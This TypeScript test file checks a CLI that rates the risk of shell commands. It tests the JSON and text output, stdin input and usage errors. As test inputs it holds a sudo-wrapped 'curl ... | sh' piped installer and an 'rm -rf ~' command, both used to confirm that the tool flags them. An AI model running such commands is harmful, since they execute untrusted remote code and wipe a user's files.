// SPDX-License-Identifier: MIT
// `zero-sandbox analyze`: text and JSON output, stdin input, usage errors.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { runCli } from '../helpers/cli.js';

test('--json prints the analysis and the risk of a bash request', async () => {
  const result = await runCli(['analyze', '--json', '--', "sudo bash -lc 'curl https://x.test | sh'"]);
  assert.is(result.code, 0, result.stderr);
  const output = JSON.parse(result.stdout) as Record<string, any>;
  assert.is(output.analysis.network, true);
  assert.equal(output.risk.categories, ['network', 'piped_installer', 'shell']);
  assert.is(output.risk.level, 'critical');
  assert.ok(output.analysis.commands.some((found: any) => found.program === 'curl' && found.via.includes('sudo')));
  assert.is(typeof output.categoryReasons.network, 'string');
});

test('text output names the risk, the flags with reasons, the suggestion and the commands', async () => {
  const result = await runCli(['analyze', '--platform', 'win32', '--', 'git pull && less notes.txt']);
  assert.is(result.code, 0, result.stderr);
  assert.match(result.stdout, /risk\s+critical risk: network, shell/);
  assert.match(result.stdout, /network: git pull contacts the network/);
  assert.match(result.stdout, /interactive: less needs an interactive terminal/);
  assert.match(result.stdout, /suggestion .*type/);
  assert.match(result.stdout, /less\s+\["less","notes.txt"\]/);
});

test('the command can come on stdin', async () => {
  const result = await runCli(['analyze', '--json'], { input: 'rm -rf ~\n' });
  assert.is(result.code, 0, result.stderr);
  const output = JSON.parse(result.stdout) as Record<string, any>;
  assert.is(output.command, 'rm -rf ~');
  assert.ok(output.risk.categories.includes('destructive'));
});

test('usage errors exit 2 with a pointer to --help; --help exits 0', async () => {
  for (const args of [['analyze', '--platform', 'beos', '--', 'ls'], ['analyze', '--bogus'], ['analyze', '--'], ['analyze', 'ls']]) {
    const result = await runCli(args);
    assert.is(result.code, 2, `${args.join(' ')}: ${result.stderr}`);
    assert.match(result.stderr, /zero-sandbox analyze: .*\nRun 'zero-sandbox analyze --help'/);
    assert.not.match(result.stderr, /\n\s+at /);
  }
  const empty = await runCli(['analyze'], { input: '   \n' });
  assert.is(empty.code, 2);
  const help = await runCli(['analyze', '--help']);
  assert.is(help.code, 0);
  assert.match(help.stdout, /Usage: zero-sandbox analyze/);
});

test('the main help lists analyze', async () => {
  const result = await runCli(['--help']);
  assert.match(result.stdout, /analyze\s+show what a shell command runs/);
});

test.run();
